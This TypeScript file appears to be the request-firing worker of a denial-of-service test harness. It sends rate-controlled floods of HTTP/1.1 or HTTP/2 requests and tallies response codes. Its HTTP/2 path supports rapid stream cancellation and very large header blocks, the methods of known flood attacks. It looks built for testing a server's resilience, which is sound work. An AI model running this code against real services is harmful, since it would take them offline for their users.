// The attacker: a child process with the lowest priority, which only uses spare CPU time.
import { Agent, request } from "node:http";
import type { ClientHttp2Session } from "node:http2";
import { connect, constants } from "node:http2";
import { constants as system, setPriority } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Means, Shot } from "./attacks.ts";
import { attacks } from "./attacks.ts";

export interface Orders {
  readonly name: string;
  readonly means: Means;
  readonly seconds: number;
}

/** The number of requests by status; 0 means no response. */
export type Spent = readonly (readonly [status: number, count: number])[];

interface Fire {
  (shot: Shot): Promise<number>;
  readonly end: () => void;
}

const patienceMs = 10_000;

setPriority(system.priority.PRIORITY_LOW);
process.on("message", (orders: Orders) => {
  void run(orders).then((spent) => process.send?.(spent));
});
// The parent process has ended.
process.once("disconnect", () => process.exit());

async function run({ name, means, seconds }: Orders): Promise<Spent> {
  const attack = attacks.find((one) => one.name === name);
  if (attack === undefined) throw new Error(`no attack ${name}`);
  const next = attack.arm(means);
  const fire = attack.version === "HTTP/2" ? overHttp2(means.base, attack) : overHttp1(means.base, attack);
  const spent = new Map<number, number>();
  const end = performance.now() + seconds * 1_000;
  // Never catches up after a pause, because the machine could not take more than this rate.
  let due = 0;
  await Promise.all(
    Array.from({ length: attack.connections }, async () => {
      while (performance.now() < end) {
        due = Math.max(due + 1_000 / attack.perSecond, performance.now());
        await sleep(due - performance.now());
        const status = await fire(next());
        spent.set(status, (spent.get(status) ?? 0) + 1);
      }
    }),
  );
  fire.end();
  return [...spent];
}

function overHttp1(base: string, { connections }: Attack): Fire {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const fire = ({ method, path, headers, body }: Shot): Promise<number> =>
    new Promise((resolve) => {
      const length = body === undefined ? {} : { "content-length": body.length };
      const options = { method, agent, timeout: patienceMs, headers: { ...headers, ...length } };
      const sent = request(base + path, options, (response) => {
        response.resume();
        response.once("close", () => resolve(response.statusCode ?? 0));
      });
      sent.once("timeout", () => sent.destroy());
      sent.once("error", () => resolve(0));
      sent.end(body);
    });
  return Object.assign(fire, { end: () => agent.destroy() });
}

function overHttp2(base: string, { connections }: Attack): Fire {
  const sessions: (ClientHttp2Session | undefined)[] = [];
  let turn = 0;
  const fire = ({ method, path, headers, body, isReset }: Shot): Promise<number> =>
    new Promise((resolve) => {
      const at = turn++ % connections;
      let session = sessions[at];
      if (session === undefined || session.closed || session.destroyed) {
        session = connect(base, { maxSendHeaderBlockLength: 1_000_000 } as object);
        session.on("error", () => undefined);
        sessions[at] = session;
      }
      let status = 0;
      try {
        const stream = session.request(
          { ":method": method, ":path": path, ...headers },
          { endStream: body === undefined },
        );
        stream.setTimeout(patienceMs, () => stream.destroy());
        stream.on("response", (received) => {
          status = Number(received[":status"]);
          stream.resume();
        });
        stream.on("error", () => undefined);
        stream.once("close", () => resolve(status));
        if (body !== undefined) stream.end(body);
        if (isReset === true) stream.close(constants.NGHTTP2_CANCEL);
      } catch {
        resolve(0);
      }
    });
  return Object.assign(fire, { end: () => sessions.forEach((session) => session?.destroy()) });
}
